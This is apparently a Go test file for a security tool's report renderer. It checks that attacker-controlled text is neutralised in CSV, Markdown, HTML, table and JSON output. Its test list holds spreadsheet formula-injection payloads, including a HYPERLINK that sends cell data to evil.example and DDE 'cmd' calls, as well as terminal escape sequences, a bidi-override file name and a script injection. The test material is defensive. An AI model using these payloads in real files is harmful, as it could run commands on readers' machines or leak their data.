package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/tenantgate/tenantgate/internal/hunt/result"
)

// What an attacker controls and a report shows: mail subjects, rule names
// and parameters, user agents, app names, file names.
var hostile = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\x1b]0;pwned\x07\x1b[2Jcleared",
	"invoice\u202efdp.exe",
	"# Heading\n| a | b |\n<script>alert(1)</script>",
}

func hostileResult() *result.Result {
	t0 := time.Date(2023, 12, 12, 4, 50, 17, 0, time.UTC)
	tp := func(d time.Duration) *time.Time { t := t0.Add(d); return &t }
	sp := func(s string) *string { return &s }
	u := result.User{UPN: "victim@example.com", Verdict: result.Compromised, InitialIntrusion: tp(0)}
	var timeline []result.Event
	for i, h := range hostile {
		u.Indicators = append(u.Indicators, result.Indicator{Kind: "userAgent", Value: h, FirstSeen: tp(0), LastSeen: tp(time.Hour)})
		u.Artifacts.RulesCreated = append(u.Artifacts.RulesCreated, result.Rule{Name: h, Parameters: map[string]string{"SubjectOrBodyContainsWords": h}})
		u.Artifacts.MailSent = append(u.Artifacts.MailSent, result.Sent{Subject: h, Count: i + 1})
		u.Artifacts.MailDeleted = append(u.Artifacts.MailDeleted, result.Deleted{Subject: h, InternetMessageID: "<" + h + "@example.com>"})
		u.Artifacts.FilesAccessed = append(u.Artifacts.FilesAccessed, result.File{Name: h, Site: "https://example.sharepoint.com/"})
		u.Artifacts.AppsConsented = append(u.Artifacts.AppsConsented, result.App{Name: h, AppID: "id", Scopes: []string{"Mail.Read"}})
		u.Findings = append(u.Findings, result.Finding{ID: "TG.HUNT.10", Severity: "high", Title: "Mail sent in an attacker session", Time: tp(time.Minute), Summary: "sent " + h, Attributed: true,
			Evidence: []result.Evidence{{File: "UAL.csv", Line: i + 2, RecordID: h}}})
		timeline = append(timeline, result.Event{Time: tp(time.Duration(i) * time.Minute), Source: "unifiedAuditLog", Operation: h, IP: sp("198.51.100.162"),
			UserAgent: sp(h), Session: sp(h), Attacker: true, Detections: []string{"TG.HUNT.10"}, User: "victim@example.com", Country: "FR", File: "UAL.csv", Line: i + 2, RecordID: fmt.Sprintf("rec-%d", i)})
		u.RemainingActions = append(u.RemainingActions, result.Action{Kind: "warn-recipients", Object: map[string]string{"subject": h, "count": "1"}, Text: "warn " + h})
		u.ResponseSeen = append(u.ResponseSeen, result.Response{Action: h, By: h, Time: tp(2 * time.Hour)})
	}
	u.Timeline = result.EventList(timeline)
	r := &result.Result{SchemaVersion: 1, Tool: result.Tool{Name: "tenantgate", Version: "test"}, GeneratedAt: t0.Add(48 * time.Hour),
		Window: result.Window{From: tp(-time.Hour), To: tp(3 * time.Hour)}, Users: []result.User{u},
		Summary:    result.Summary{Compromised: 1},
		Detections: []result.Detection{{ID: "TG.HUNT.10", Title: "Mail sent in an attacker session", Severity: "high", Response: "Warn the recipients."}}}
	for _, k := range result.KindNames {
		*r.Coverage.Kind(k) = result.KindCoverage{Files: []string{}}
	}
	r.Coverage.Skipped = []result.Skipped{{File: hostile[8], Reason: hostile[6]}}
	r.Timeline = u.Timeline
	return r
}

// Formula cells are neutralised in the CSV, whatever column the attacker's
// text lands in, and the CSV still parses with one field per column.
func TestCSVNeutralisesFormulas(t *testing.T) {
	out := render(t, "csv", hostileResult(), Options{Location: time.UTC})
	if !strings.HasPrefix(out, "\ufeff") {
		t.Error("no UTF-8 byte order mark: Excel would read the subjects in the local code page")
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(hostile)+1)
	}
	// hunt.md's columns, in its order, then the record id (an extension:
	// the one locator of a record on a one-line Graph page).
	want := "time_utc,time_local,user,source,operation,ip,country,user_agent,session,attacker,detections,file_line,record_id"
	if got := strings.Join(rows[0], ","); got != want {
		t.Errorf("header %s\nwant   %s", got, want)
	}
	for i, row := range rows[1:] {
		if len(row) != len(csvHeader) {
			t.Fatalf("%d fields: %q", len(row), row)
		}
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q starts a formula", csvHeader[i], cell)
			}
		}
		if row[9] != "yes" || row[10] != "TG.HUNT.10" || row[11] != fmt.Sprintf("UAL.csv:%d", i+2) || row[12] != fmt.Sprintf("rec-%d", i) {
			t.Errorf("row %q", row)
		}
	}
	// neutralised, not dropped: the text is still there after the apostrophe
	if !strings.Contains(out, "'=HYPERLINK(") || !strings.Contains(out, "'@SUM(1+1)") {
		t.Error("the hostile text is not kept behind the apostrophe")
	}
	for _, tc := range []struct{ in, want string }{
		{"=1", "'=1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@a", "'@a"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"a=1", "a=1"}, {"", ""}, {"2001:db8::1", "2001:db8::1"}, {"2023-12-12T04:50:17Z", "2023-12-12T04:50:17Z"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// No terminal escape, bidi override or Markdown/HTML injection reaches the
// human formats, in either language.
func TestHostileTextOutputs(t *testing.T) {
	r := hostileResult()
	for _, lang := range Languages {
		for _, format := range []string{"table", "markdown", "html"} {
			out := render(t, format, r, Options{Lang: lang})
			for _, bad := range []string{"\x1b", "\u202e", "\x07", "\r"} {
				if strings.Contains(out, bad) {
					t.Errorf("%s/%s holds %q", lang, format, bad)
				}
			}
			if !strings.Contains(out, `\x1b`) || !strings.Contains(out, `\u202e`) {
				t.Errorf("%s/%s: the escapes are not shown visibly", lang, format)
			}
			switch format {
			case "markdown":
				for _, line := range strings.Split(out, "\n") {
					line = codeSpan.ReplaceAllString(line, "`code`") // literal in Markdown
					if strings.HasPrefix(line, "# Heading") || strings.HasPrefix(line, "| a |") || strings.Contains(line, "<script>") {
						t.Errorf("markdown injection: %q", line)
					}
				}
			case "html":
				if strings.Contains(out, "<script>alert") {
					t.Error("HTML injection: <script>alert")
				}
			}
		}
	}
}

// The HTML opens offline: nothing it references leaves the file, and a
// Content-Security-Policy forbids network access.
func TestHTMLSelfContained(t *testing.T) {
	out := render(t, "html", demoResult(t), Options{Lang: "en"})
	for _, bad := range []string{"<link", "<img", "<iframe", "@import", "url(http", "@font-face", "fetch(", "XMLHttpRequest", "src=\"http", "href=\"http"} {
		if strings.Contains(out, bad) {
			t.Errorf("contains %q", bad)
		}
	}
	if !strings.Contains(out, `http-equiv="Content-Security-Policy" content="default-src 'none'`) {
		t.Error("no CSP forbidding network access")
	}
	// every control of the timeline is a native, keyboard-reachable one
	for _, id := range []string{"zoom-in", "zoom-out", "pan-left", "pan-right", "span-attacker", "span-window"} {
		if !strings.Contains(out, `<button type="button" id="`+id+`">`) {
			t.Errorf("control %s is not a button", id)
		}
	}
	if !strings.Contains(out, `<input type="checkbox" id="attacker-only">`) {
		t.Error("no attacker-only checkbox")
	}
}

var codeSpan = regexp.MustCompile("`[^`]*`")

func TestUnknownLanguage(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, "markdown", hostileResult(), Options{Lang: "fr"}); err == nil || !strings.Contains(err.Error(), "fr") {
		t.Errorf("lang fr: %v", err)
	}
}

// Users unknown for lack of logs, without a high-severity finding, are
// listed together (their medium findings as notable), not given a report
// each: without the UAL a tenant of 300 is 300 unknown users.
func TestUnknownUsersListedTogether(t *testing.T) {
	r := hostileResult()
	r.Summary = result.Summary{Compromised: 1, Unknown: 50}
	for i := range 50 {
		u := result.User{UPN: fmt.Sprintf("user%02d@example.com", i), Verdict: result.Unknown}
		if i%10 == 0 {
			u.Findings = []result.Finding{{ID: "TG.HUNT.10", Severity: "medium", Title: "Mail sent in an attacker session"}}
		}
		r.Users = append(r.Users, u)
	}
	for _, lang := range Languages {
		for _, format := range []string{"table", "markdown", "html"} {
			out := render(t, format, r, Options{Lang: lang})
			if strings.Contains(out, "user07@example.com:") || strings.Contains(out, `id="user-3"`) {
				t.Errorf("%s/%s: an unknown user without findings got a report of its own", lang, format)
			}
			want := map[string]string{"en": "50 users have no high-severity finding", "ja": "50 名のユーザーは重大度「高」の検出がありません"}[lang]
			if !strings.Contains(strings.Join(strings.Fields(out), " "), want) {
				t.Errorf("%s/%s: no %q", lang, format, want)
			}
			if !strings.Contains(out, "user00@example.com") {
				t.Errorf("%s/%s: the unknown users are not named", lang, format)
			}
		}
	}
}

// The JSON keeps the data exact, but what a terminal would act on (ESC is
// already escaped by encoding/json; DEL, C1 controls and bidi overrides are
// not) is written as \u escapes: JSON is printed to terminals and pagers too.
func TestHostileJSON(t *testing.T) {
	out := render(t, "json", hostileResult(), Options{Lang: "en"})
	if !json.Valid([]byte(out)) {
		t.Fatal("invalid JSON")
	}
	for _, bad := range []string{"\x1b", "\u202e", "\x07", "\r"} {
		if strings.Contains(out, bad) {
			t.Errorf("json holds %q raw", bad)
		}
	}
	if !strings.Contains(out, `\u202e`) {
		t.Error("the bidi override is gone rather than escaped")
	}
}
